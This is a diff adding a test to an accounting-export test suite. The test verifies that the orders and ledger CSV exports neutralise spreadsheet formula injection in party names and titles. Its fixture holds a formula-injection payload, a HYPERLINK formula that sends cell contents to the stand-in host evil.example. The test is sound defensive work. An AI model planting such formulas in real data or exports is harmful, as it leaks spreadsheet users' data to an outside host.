@@ -61,6 +61,25 @@ describe('accounting exports', () => {
     expect(logged).toEqual([{ action: 'export_accounting', target_id: 'orders' }]);
   });
 
+  it('defuses a party name or a title that a spreadsheet would run, in both exports', async () => {
+    const formula = '-1+HYPERLINK("https://evil.example/?"&A1,"Voir")';
+    const p = await orderParties(t, { price_cents: 2_000, title: '-2+3' });
+    await t.ctx.db
+      .updateTable('profiles')
+      .set({ full_name: formula })
+      .where('id', 'in', [p.buyer.id, p.seller.id])
+      .execute();
+    await paidOrder(t, p);
+    const defused = `"'-1+HYPERLINK(""https://evil.example/?""&A1,""Voir"")"`;
+    const orders = lines((await p.adminClient.get(`/api/admin/accounting/orders.csv?from=${day()}&to=${day()}`)).body);
+    const row = orders.find((line) => line.includes('evil.example'));
+    expect(row).toContain(`;${defused};${defused};'-2+3;20,00;`);
+    const ledger = lines((await p.adminClient.get(`/api/admin/accounting/ledger.csv?from=${day()}&to=${day()}`)).body);
+    const partyLines = ledger.filter((line) => line.includes('evil.example'));
+    expect(partyLines.length).toBeGreaterThan(0);
+    for (const line of partyLines) expect(line).toContain(`;${defused};`);
+  });
+
   it('exports ledger lines whose debits equal their credits, and gives balances at a date', async () => {
     const p = await booksWithOneOrder();
     const csv = (await p.adminClient.get(`/api/admin/accounting/ledger.csv?from=${day()}&to=${day()}`)).body;
